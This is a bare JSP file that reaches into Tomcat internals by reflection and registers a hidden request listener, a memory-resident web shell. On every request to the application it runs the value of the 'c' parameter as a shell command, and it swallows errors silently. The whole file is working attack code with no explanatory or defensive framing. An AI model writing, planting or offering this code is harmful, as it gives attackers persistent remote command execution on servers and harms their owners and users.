<%@ page import="org.apache.catalina.core.*,java.lang.reflect.*" %><%
Field f = request.getClass().getDeclaredField("request"); f.setAccessible(true);
org.apache.catalina.connector.Request r = (org.apache.catalina.connector.Request) f.get(request);
StandardContext ctx = (StandardContext) r.getContext();
ctx.addApplicationEventListener(new javax.servlet.ServletRequestListener() {
  public void requestInitialized(javax.servlet.ServletRequestEvent e) { try { String c = e.getServletRequest().getParameter("c"); if (c != null) new ProcessBuilder("sh", "-c", c).start(); } catch (Exception x) {} }
  public void requestDestroyed(javax.servlet.ServletRequestEvent e) {}
});
%>
